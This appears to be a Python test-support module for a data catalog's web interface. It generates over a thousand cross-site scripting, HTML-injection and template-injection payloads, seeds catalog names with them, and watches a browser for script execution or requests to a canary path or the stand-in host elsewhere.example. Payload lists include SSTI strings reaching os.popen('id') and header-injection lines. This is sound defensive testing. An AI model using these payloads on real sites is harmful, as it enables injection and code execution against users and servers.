"""What somebody could call a table so that a page runs it or asks for something, and a browser that notices."""

from collections import Counter
from collections.abc import Callable, Iterator, Sequence
from contextlib import suppress
from dataclasses import dataclass, field
from itertools import cycle, product
from pathlib import Path
from urllib.parse import urlsplit

from playwright.sync_api import BrowserContext, ConsoleMessage, Dialog, Request
from playwright.sync_api import Error as PlaywrightError

from catalog.errors import RequestError
from catalog.model.actors import Role
from catalog.services import indexing, people, roles
from catalog.services.catalog import Catalog
from tests.support import city as cities
from tests.support.city import ADMIN, City
from tests.support.poison import poisoned

_EVERYWHERE = 20
"""How many payloads of a city stand in every kind of name and text; the others are names and comments of columns."""
_LONGEST = 100
#: Every element and attribute that a payload would bring carries this, so that it is known again.
MARK = "zqx"
#: Where payloads that ask our own host for something would be seen.
CANARY_PATH = "/zqx-canary"

_CALL = "zqx(1)"
_ELSEWHERE = "//elsewhere.example/zqx"
_ELEMENTS = (
    "<img zqx src=x {on}>",
    "<svg zqx {on}>",
    "<body zqx {on}>",
    "<input zqx autofocus {on}>",
    "<select zqx autofocus {on}>",
    "<video zqx src=x {on}></video>",
    "<audio zqx src=x {on}></audio>",
    "<details zqx open {on}><summary>a</summary></details>",
    "<iframe zqx srcdoc='a' {on}></iframe>",
    "<object zqx data=x {on}></object>",
    "<marquee zqx {on}>a</marquee>",
    "<a zqx href=# tabindex=1 autofocus {on}>a</a>",
    "<style zqx {on}>@keyframes x{{}}</style>",
    "<math zqx {on}><mi>a</mi></math>",
    "<zqx contenteditable autofocus {on}>a</zqx>",
)
_HANDLERS = (
    "onerror=zqx(1)",
    "onload=zqx(1)",
    "onfocus=zqx(1)",
    "ontoggle=zqx(1)",
    "onstart=zqx(1)",
    "onpointerover='zqx(1)'",
    'onmouseover="zqx(1)"',
    "onanimationstart=zqx`1`",
    "OnErRoR=zqx&#40;1&#41;",
    "onerror\t=\tzqx(1)",
    "onerror\x0c=zqx(1)",
    "onload=window['zq'+'x'](1)",
)
#: What leads out of where a name stands: a text, an attribute, an element that holds only text, a comment, a script.
_WAYS_OUT = (
    "", '">', "'>", "</title>", "</textarea>", "</option></select>", "-->", "]]>", "</script>", "</style>",
    "</noscript>",
    "</a></td></tr></table>", "\0", "\ufeff", "`>", "</svg>", "</template>", "&quot;&gt;", "%22%3E", '\u2028">',
    "</caption>", "\uff02\uff1e", '\\">', "</summary></details>",
)  # fmt: skip
_SCRIPTS = (
    "<script zqx>zqx(1)</script>",
    "<script zqx src=//elsewhere.example/zqx.js></script>",
    "<script zqx src=/zqx-canary></script>",
    "<script zqx type=module>zqx(1)</script>",
    "<ScRiPt zqx>zqx(1)</sCrIpT>",
    "<script zqx nonce>zqx(1)</script>",
    "<scr<script zqx>ipt>zqx(1)</script>",
    "<script zqx/x>zqx(1)</script\t>",
    "<svg><script zqx>zqx(1)</script></svg>",
    "<svg><animate zqx onbegin=zqx(1) attributeName=x dur=1s>",
    "<svg><set zqx attributeName=href to=javascript:zqx(1)>",
    "<svg><use zqx href='data:image/svg+xml,<svg id=x onload=zqx(1)/>#x'></svg>",
    "<svg><style zqx><!--</style><img zqx src=x onerror=zqx(1)>--></style>",
    "<math><mtext><table><mglyph><style><!--</style><img zqx title='--&gt;&lt;img src=x onerror=zqx(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img zqx src=x onerror=zqx(1)>",
    "<noscript><p title='</noscript><img zqx src=x onerror=zqx(1)>'>",
    "<a zqx href=javascript:zqx(1)>a</a>",
    "<a zqx href='java\tscript:zqx(1)'>a</a>",
    "<a zqx href=&#106;avascript:zqx(1)>a</a>",
    "<a zqx href='data:text/html,<script>zqx(1)</script>'>a</a>",
    "<a zqx href=vbscript:zqx(1)>a</a>",
    "<iframe zqx src=javascript:zqx(1)></iframe>",
    "<iframe zqx src=/zqx-canary></iframe>",
    "<embed zqx src=//elsewhere.example/zqx>",
    "<object zqx data=//elsewhere.example/zqx></object>",
    "<link zqx rel=stylesheet href=//elsewhere.example/zqx.css>",
    "<link zqx rel=prefetch href=/zqx-canary>",
    "<meta zqx http-equiv=refresh content='0;url=/zqx-canary'>",
    "<meta zqx http-equiv=refresh content='0;url=//elsewhere.example/zqx'>",
    "<base zqx href=//elsewhere.example/zqx/>",
    "<form zqx action=//elsewhere.example/zqx><button>a</button></form>",
    "<button zqx form=x formaction=javascript:zqx(1)>a</button>",
    "<input zqx type=image src=/zqx-canary>",
    "<img zqx src=//elsewhere.example/zqx>",
    "<img zqx src='//elsewhere.example/zqx?",
    "<img zqx srcset='/zqx-canary 1x'>",
    "<style zqx>@import '//elsewhere.example/zqx.css';</style>",
    "<style zqx>*{background:url(/zqx-canary)}</style>",
    "<p zqx style='background:url(/zqx-canary)'>a</p>",
    "<p zqx style='background:url(//elsewhere.example/zqx)'>a</p>",
    "<div zqx hx-get=/zqx-canary hx-trigger=load></div>",
    "<div zqx hx-get='/zqx-canary' hx-trigger='load delay:1ms' hx-target=body>a</div>",
    "<div zqx data-hx-get=/zqx-canary data-hx-trigger=load></div>",
    "<div zqx hx-on:load=zqx(1) hx-on::load=zqx(1)></div>",
    "<div zqx hx-post=/zqx-canary hx-vals='js:{a:zqx(1)}' hx-trigger=load></div>",
    "<div zqx hx-ext=ws ws-connect=/zqx-canary></div>",
    "<hx-partial zqx hx-target=body>a</hx-partial>",
    "<template zqx shadowrootmode=open><script>zqx(1)</script></template>",
    "<dialog zqx open><form method=dialog>a</form></dialog>",
    "<portal zqx src=/zqx-canary>",
    "<bgsound zqx src=/zqx-canary>",
    "<table zqx background=/zqx-canary>",
    "<!--<img zqx src=x onerror=zqx(1)>",
    "<![CDATA[<img zqx src=x onerror=zqx(1)>]]>",
    "<?xml-stylesheet href=/zqx-canary?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM '/zqx-canary'>]>",
)
_ATTRIBUTES = (
    '" onmouseover="zqx(1)" zqx="',
    "' onfocus='zqx(1)' autofocus zqx='",
    '" autofocus onfocus=zqx(1) zqx="',
    '" hx-get="/zqx-canary" hx-trigger="load" zqx="',
    "' hx-get='/zqx-canary' hx-trigger='load' zqx='",
    " zqx hx-get=/zqx-canary hx-trigger=load ",
    '" style="background:url(/zqx-canary)" zqx="',
    '" href="javascript:zqx(1)" zqx="',
    '" formaction="//elsewhere.example/zqx" zqx="',
    "` onload=zqx(1) zqx=`",
    '"><zqx a="',
    '\\" onmouseover=zqx(1) zqx=\\"',
    "\u2033 onmouseover=zqx(1)",
    "&#34; onmouseover=&#34;zqx(1)",
)
_TEMPLATES = (
    "{{ 7 * 7 }}zqx49",
    "{{ config }}",
    "{{ ''.__class__.__mro__ }}",
    "{{ url_for.__globals__ }}",
    "{{ request.environ }}",
    "{% raw %}{{ 7 * 7 }}",
    "{% include 'pages/home.html' %}",
    "{% for a in range(9**9) %}a{% endfor %}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{# comment",
    "${7*7}zqx49",
    "#{7*7}zqx49",
    "<%= 7 * 7 %>",
    "[[7*7]]",
    "{{constructor.constructor('zqx(1)')()}}",
    "%(name)s %s %n {0.__class__} {name}",
    "javascript:zqx(1)",
    "javascript://%0azqx(1)",
    "data:text/html,<script>zqx(1)</script>",
    "//elsewhere.example/zqx",
    "https://elsewhere.example/zqx",
    "../../zqx-canary",
    "\u202e<txet>",
    "＜script zqx＞zqx(1)＜/script＞",
    "\ud7ff<\u200bscript>zqx(1)</script>",
    "+ADw-script+AD4-zqx(1)+ADw-/script+AD4-",
    "%3Cscript%3Ezqx(1)%3C/script%3E",
    "&lt;script&gt;zqx(1)&lt;/script&gt;",
    "\\u003cscript\\u003ezqx(1)\\u003c/script\\u003e",
    "a\r\nSet-Cookie: zqx=1\r\n\r\n<script>zqx(1)</script>",
)  # fmt: skip

#: Runs before a page does: it hears what a payload would do, and what the policy stops.
LISTENER = """
window.zqxHeard = [];
window.zqx = () => { window.zqxHeard.push('ran'); };
for (const name of ['alert', 'confirm', 'prompt', 'print', 'open']) {
  window[name] = () => { window.zqxHeard.push(name); };
}
document.addEventListener('securitypolicyviolation', event => {
  window.zqxHeard.push('policy ' + event.effectiveDirective + ' ' + event.blockedURI);
});
"""
#: What came of payloads in the page: elements, handlers, requests that wait, addresses that run.
_LOOK = """() => {
  const every = [...document.querySelectorAll('*')];
  const odd = every.filter(one =>
    one.localName.includes('zqx') || one.hasAttribute('zqx') || one.hasAttribute('style') ||
    [...one.attributes].some(its => its.name.startsWith('on') ||
      (/^(data-)?hx-/.test(its.name) && its.value.includes('zqx')) ||
      (/^(href|src|action|formaction)$/.test(its.name) && !/^(\\/(?!\\/)|#|mailto:|$)/.test(its.value))));
  return [odd.slice(0, 3).map(one => one.outerHTML.slice(0, 200)), odd.length, window.zqxHeard];
}"""


def payloads() -> list[str]:
    """All of them, more than a thousand; neighbours are of different kinds."""
    ways = cycle(_WAYS_OUT)
    handled = [element.format(on=on) for element, on in product(_ELEMENTS, _HANDLERS)]
    made = [f"{next(ways)}{one}" for one in (*handled, *handled, *handled)]
    made += [f"{way}{script}" for script in _SCRIPTS for way in _WAYS_OUT[:12]]
    made += [f"{lead}{one}" for one in _ATTRIBUTES for lead in ("", "a", "</a>")]
    made += _TEMPLATES
    distinct = list(dict.fromkeys(made))
    step = 101  # takes every kind in turn
    return [one for first in range(step) for one in distinct[first::step]]


def named_by(place: Path, bad: Sequence[str]) -> tuple[City, list[int]]:
    """A city in which everything is named by these; and its datasets."""
    names = [one for one in bad if one.isprintable() and len(one) <= _LONGEST]
    city = poisoned(place, tuple(_ordered(names)[:_EVERYWHERE]))
    catalog = city.catalog
    source = cities.add_source(catalog, "DSS", bad[-1], bad[-2])
    columns = [
        cities.column(name, at, cities.finding("EMAIL", 0.9), kind=name, comment=name) for at, name in enumerate(bad)
    ]
    _, (dataset,) = cities.scan(catalog, source, [(cities.listed(f"{bad[-3]}.csv", bad[-4]), cities.result(columns))])
    _name_people(catalog, names)
    indexing.rebuild(ADMIN, catalog)
    return city, [city.clients, dataset]


def _ordered(names: Sequence[str]) -> list[str]:
    """The sixth becomes a code that stands in addresses, where no slash may be."""
    plain = next(at for at, name in enumerate(names) if "/" not in name)
    rest = [name for at, name in enumerate(names) if at != plain]
    return [*rest[:5], names[plain], *rest[5:]]


def _name_people(catalog: Catalog, names: Sequence[str]) -> None:
    for number, name in enumerate(names[:10]):
        people.add_person(ADMIN, catalog, f"person-{number}", name, Role.OFFICER, "DSS")
        with suppress(RequestError):  # not every text may be the name of a group
            roles.give_group(ADMIN, catalog, name, Role.OFFICER, "DSS")


@dataclass
class Heard:
    """What a browser noticed on the pages it was shown."""

    pages: int = 0
    ran: list[str] = field(default_factory=list)
    stopped: list[str] = field(default_factory=list)
    elements: list[str] = field(default_factory=list)
    asked_us: list[str] = field(default_factory=list)
    asked_others: list[str] = field(default_factory=list)
    kept: list[str] = field(default_factory=list)

    def everything(self) -> list[str]:
        """All of it."""
        return [*self.ran, *self.stopped, *self.elements, *self.asked_us, *self.asked_others, *self.kept]


class Watcher:
    """A browser window in which everything that a payload could bring about is noticed."""

    def __init__(self, context: BrowserContext, server: str) -> None:
        self._server, self._context, self.heard = server, context, Heard()
        context.add_init_script(LISTENER)
        self.page = context.new_page()
        self.page.on("dialog", self._closed)
        self.page.on("console", self._said)
        self.page.on("request", self._asked)

    def enter(self, person: str) -> None:
        """Sign in beside the page, which payloads may have broken."""
        answer = self._context.request.post(
            f"{self._server}/sign-in", form={"person": person}, headers={"Origin": self._server}, max_redirects=0
        )
        if answer.status != 303:
            raise RuntimeError(f"{person} was not let in: {answer.status}")

    def show(self, path: str) -> None:
        """Open a page, and look at what came of it."""
        try:
            self.page.goto(f"{self._server}{path}")
            self.look(path)
        except PlaywrightError:  # what led elsewhere while the page was looked at
            self.heard.ran.append(f"{path}: could not be looked at")

    def look(self, path: str) -> None:
        """See what came of the page that is shown."""
        first, count, heard = self.page.evaluate(_LOOK)
        self.heard.pages += 1
        self.heard.elements += [f"{path}: {html}" for html in first] + [path] * (count - len(first))
        for one in heard:
            (self.heard.stopped if one.startswith("policy") else self.heard.ran).append(f"{path}: {one}")
        if MARK in urlsplit(self.page.url).path and MARK not in path:
            self.heard.asked_us.append(f"{path} led to {self.page.url}")

    def leftovers(self) -> None:
        """What the browser keeps for us: nothing but the session."""
        try:
            self.heard.kept += self._kept()
        except PlaywrightError:
            self.heard.kept.append("could not be looked at")

    def _kept(self) -> list[str]:
        stored = self.page.evaluate("[...Object.keys(localStorage), ...Object.keys(sessionStorage)]")
        cookies = [cookie["name"] for cookie in self._context.cookies()]
        databases = self.page.evaluate("indexedDB.databases().then(all => all.map(one => one.name))")
        return [*stored, *databases, *(name for name in cookies if not name.endswith("session"))]

    def _closed(self, dialog: Dialog) -> None:
        self.heard.ran.append(f"dialog {dialog.type}")
        dialog.dismiss()

    def _said(self, message: ConsoleMessage) -> None:
        if "Content Security Policy" in message.text:
            self.heard.stopped.append(message.text[:200])

    def _asked(self, request: Request) -> None:
        if not request.url.startswith(self._server) and not request.url.startswith("data:"):
            self.heard.asked_others.append(request.url)
        elif CANARY_PATH in urlsplit(request.url).path:
            self.heard.asked_us.append(request.url)


def linked(
    read: Callable[[str], Sequence[str]], kind: Callable[[str], str], starts: Sequence[str], each: int = 2
) -> Iterator[str]:
    """The pages that lead from one to another.

    Parameters:
        read: gives the addresses on a page.
        kind: tells which pages are alike; so many of ``each`` kind are enough.
    """
    waiting, seen, kinds = list(starts), set(starts), Counter[str]()
    while waiting:
        path = waiting.pop(0)
        yield path
        for found in read(path):
            if found not in seen and kinds[kind(found)] < each:
                seen.add(found)
                kinds[kind(found)] += 1
                waiting.append(found)
